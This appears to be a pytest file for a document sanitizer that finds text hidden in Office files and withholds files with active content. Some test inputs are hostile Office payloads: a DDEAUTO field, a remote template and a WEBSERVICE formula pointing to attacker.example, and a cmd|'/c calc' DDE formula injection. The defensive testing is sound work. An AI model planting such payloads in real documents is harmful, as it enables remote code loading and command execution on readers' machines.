"""Word, Excel and PowerPoint: every place where a text can hide is read, and what leaves is what is seen."""

import pytest

from relay.documents.document import Document
from relay.documents.kind import kind_of_content
from relay.documents.limits import Room
from relay.documents.read import read
from tests.documents import (
    OFFICE,
    core,
    custom,
    docx,
    paragraph,
    pptx,
    unzipped,
    word_part,
    xlsx,
)

RED = "TLP:RED"
SEEN = paragraph("Forty kilograms.")
COMMENT = ("c", "comments", "comments.xml")


def opened(octets: bytes) -> Document:
    found = read(octets, kind_of_content(octets), "", Room())
    assert found is not None
    return found


def places(found: Document, text: str = RED) -> set[str]:
    return {view.place for view in found.views if text in view.text}


def chart(text: str) -> tuple[str, str]:
    return f"{OFFICE}.drawingml.chart+xml", f"<c:chart xmlns:c='urn:c' xmlns:a='urn:a'><a:t>{text}</a:t></c:chart>"


LABEL = (
    "application/vnd.ms-office.classificationlabels+xml",
    f'<c:labelList xmlns:c="urn:c"><c:label id="{{0a1b}}" enabled="1" name="{RED}"/></c:labelList>',
)
HIDING = {
    "text": (docx(paragraph(RED)), "text", True),
    "split into runs": (docx("<w:p><w:r><w:t>TLP:</w:t></w:r><w:r><w:t>RED</w:t></w:r></w:p>"), "text", True),
    "table": (docx(f"<w:tbl><w:tr><w:tc>{paragraph(RED)}</w:tc></w:tr></w:tbl>"), "text", True),
    "text box": (docx(f"<w:p><w:r><w:pict><v:textbox><w:txbxContent>{paragraph(RED)}</w:txbxContent></v:textbox></w:pict></w:r></w:p>"), "text", True),
    "header": (docx(parts={"word/header1.xml": word_part("header", paragraph(RED))}, links=[("h", "header", "header1.xml")]), "page header", True),
    "footnote": (docx(parts={"word/footnotes.xml": word_part("footnotes", paragraph(RED))}), "text", True),
    "chart": (docx(parts={"word/charts/chart1.xml": chart(RED)}), "text", True),
    "watermark": (docx(f'<w:p><w:r><w:pict><v:textpath string="{RED}"/></w:pict></w:r></w:p>'), "hidden part", True),
    "description of a shape": (docx(f'<w:p><w:r><w:docPr descr="{RED}"/></w:r></w:p>'), "hidden part", True),
    "XML comment": (docx(SEEN + f"<!-- {RED} -->"), "hidden part", True),
    "deletion": (docx(f"<w:p><w:del><w:r><w:delText>{RED}</w:delText></w:r></w:del></w:p>"), "hidden part", False),
    "insertion": (docx(f"<w:p><w:ins><w:r><w:t>{RED}</w:t></w:r></w:ins></w:p>"), "text", False),
    "hidden text": (docx(f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{RED}</w:t></w:r></w:p>"), "hidden part", False),
    "comment": (docx(parts={"word/comments.xml": word_part("comments", paragraph(RED))}, links=[COMMENT]), "hidden part", False),
    "field": (docx(f"<w:p><w:r><w:instrText>DDEAUTO c:\\x {RED}</w:instrText></w:r></w:p>"), "hidden part", False),
    "title": (docx(parts={"docProps/core.xml": core(title=RED)}), "properties", True),
    "label": (docx(parts={"docProps/custom.xml": custom(MSIP_Label_1_Name=RED)}), "properties", True),
    "label kept apart": (docx(parts={"docMetadata/LabelInfo.xml": LABEL}), "properties", True),
    "data behind": (docx(parts={"customXml/item1.xml": ("application/xml", f"<a>{RED}</a>")}), "properties", True),
    "link": (docx(links=[("x", "hyperlink", f"https://agency.example/{RED}")]), "hidden part", True),
    "cell": (xlsx(strings=(RED,)), "sheet 1", True),
    "cell of its own": (xlsx(f'<row><c t="inlineStr"><is><t>{RED}</t></is></c></row>'), "sheet 1", True),
    "result of a formula": (xlsx(f'<row><c t="str"><f>A1</f><v>{RED}</v></c></row>'), "sheet 1", True),
    "formula": (xlsx(f'<row><c><f>"{RED}"</f><v>1</v></c></row>'), "sheet 1, hidden part", True),
    "sheet's name": (xlsx("<row/>", names={1: RED}), "sheet 1, name", True),
    "page header of a sheet": (xlsx(f"<sheetData/><headerFooter><oddHeader>{RED}</oddHeader></headerFooter>"), "sheet 1", True),
    "prompt": (xlsx(f'<sheetData/><dataValidations><dataValidation prompt="{RED}"/></dataValidations>'), "sheet 1, hidden part", True),
    "hidden sheet": (xlsx("<row/>", '<row><c t="s"><v>0</v></c></row>', states={2: "veryHidden"}, strings=(RED,)), "sheet 2", False),
    "former cell": (xlsx("<row/>", strings=(RED,)), "hidden part", True),
    "cell's comment": (
        xlsx(parts={"xl/comments1.xml": (f"{OFFICE}.spreadsheetml.comments+xml", f"<comments><t>{RED}</t></comments>")}, links=[COMMENT]),
        "hidden part",
        False,
    ),
    "slide": (pptx("one", RED), "slide 2", True),
    "speaker's notes": (pptx("one", "two", notes={2: RED}), "slide 2, hidden part", False),
    "hidden slide": (pptx("one", RED, hidden=frozenset({2})), "slide 2", False),
}  # fmt: skip


@pytest.mark.parametrize(("octets", "place", "leaves"), HIDING.values(), ids=HIDING)
def test_a_text_is_found_where_it_hides(octets, place, leaves):
    """Row 64; evasion 10."""
    found = opened(octets)
    assert place in places(found)
    assert (found.clean is not None, found.doubts) == (leaves, ())
    if place == "properties" and found.clean:
        assert RED.encode() not in b"".join(unzipped(found.clean).values())


@pytest.mark.parametrize(
    ("octets", "problem"),
    [
        (docx(**{"word/vbaProject.bin": b"x"}), "document.active"),
        (docx(parts={"word/activeX/activeX1.xml": ("application/vnd.ms-office.activeX+xml", "<a/>")}), "document.active"),
        (docx(parts={"word/embeddings/x.xlsx": (f"{OFFICE}.spreadsheetml.sheet", "x")}), "document.active"),
        (docx(links=[("t", "attachedTemplate", "https://attacker.example/a.dotm")]), "document.active"),
        (docx(links=[("t", "image", "https://attacker.example/a.png")]), "document.active"),
        (docx(links=[("t", "hyperlink", "file://server/share")]), "document.active"),
        (docx("<w:altChunk/>"), "document.active"),
        (docx('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>'), "document.active"),
        (xlsx('<row><c><f>WEBSERVICE("https://attacker.example")</f></c></row>'), "document.active"),
        (xlsx('<row><c><f>cmd|"/c calc"!A0</f></c></row>'), "document.active"),
        (xlsx(parts={"xl/externalLinks/x1.xml": (f"{OFFICE}.spreadsheetml.externalLink+xml", "<a/>")}), "document.active"),
        (xlsx(parts={"xl/p.xml": (f"{OFFICE}.spreadsheetml.pivotCacheRecords+xml", "<a>x</a>")}), "document.hidden_content"),
        (docx(**{"word/media/image1.png": b"x"}), "document.pictures"),
        (docx(parts={"word/odd.xml": ("application/vnd.example.odd+xml", "<a/>")}), "document.unknown_part"),
        (docx("<w:p>"), "part.damaged"),
        (docx(parts={"word/header1.xml": ("application/xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")}), "part.damaged"),
        (docx(paragraph("x" * 6_000_001)), "part.over_limits"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_what_is_active_hidden_pictured_or_unknown_keeps_a_document(octets, problem):
    found = opened(octets)
    assert problem in found.removed_for
    assert found.clean is None


def test_a_copy_has_the_same_text_and_nothing_beside_it():
    styles = '<w:p><w:r w:rsidR="00AB12CD"><w:t>Forty kilograms.</w:t></w:r></w:p><!-- seen by nobody -->'
    octets = docx(
        styles,
        parts={
            "docProps/core.xml": core(creator="Ana Example", title="x"),
            "customXml/item1.xml": ("application/xml", "<a>Ana Example</a>"),
            "word/settings.xml": word_part(
                "settings", '<w:rsids/><w:docVars><w:docVar w:name="Ana Example"/></w:docVars>'
            ),
        },
        links=[("q", "settings", "settings.xml"), ("u", "customXml", "../customXml/item1.xml")],
        **{"docProps/thumbnail.png": b"x"},
    )
    clean = opened(octets).clean
    assert clean is not None
    assert set(unzipped(clean)) == {
        "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/document.xml", "word/settings.xml", "word/styles.xml",
    }  # fmt: skip
    assert not any(word in b"".join(unzipped(clean).values()) for word in (b"Ana", b"nobody", b"rsid", b"customXml"))
    again = opened(clean)
    assert places(again, "Forty kilograms.") == {"text"}
    assert again.clean == clean


@pytest.mark.parametrize("octets", [docx(), xlsx(), pptx("one", "two")], ids=["docx", "xlsx", "pptx"])
def test_the_copy_of_a_copy_is_the_same(octets):
    first = opened(octets).clean
    assert first is not None
    assert opened(first).clean == first


def test_pointers_to_what_is_left_out_are_left_out_too():
    clean = opened(pptx("one", notes={1: "7"})).clean
    assert clean is not None
    assert b"notesMasterId " not in unzipped(clean)["ppt/presentation.xml"]
    assert not any("notes" in name for name in unzipped(clean))


def test_cells_of_a_row_stand_in_one_line_with_dates_and_numbers_as_they_are_seen():
    row = '<row><c t="s"><v>0</v></c><c s="1"><v>30000</v></c><c><v>4.4770090012E11</v></c><c t="b"><v>1</v></c></row>'
    found = opened(xlsx(row, strings=("born",)))
    assert places(found, "born\t1982-02-18\t447700900120\t1") == {"sheet 1"}


def test_cells_of_a_word_table_stand_in_one_line():
    cell = "<w:tc><w:tcPr/>{}</w:tc>"
    table = f"<w:tbl><w:tr>{cell.format(paragraph('name'))}{cell.format(paragraph('place') + paragraph('more'))}</w:tr></w:tbl>"
    assert places(opened(docx(table)), "\tname\tplace\nmore") == {"text"}


def test_a_label_that_is_kept_apart_reads_like_one_among_the_properties():
    found = opened(docx(parts={"docMetadata/LabelInfo.xml": LABEL}))
    assert places(found, "MSIP_Label_0a1b_Enabled=true\nMSIP_Label_0a1b_Name=TLP:RED") == {"properties"}


def test_what_is_embedded_is_handed_on():
    [member] = opened(docx(parts={"word/embeddings/x.xlsx": (f"{OFFICE}.spreadsheetml.sheet", "x")})).members
    assert (member.octets, member.name, member.place) == (b"x", "word/embeddings/x.xlsx", "part 1")
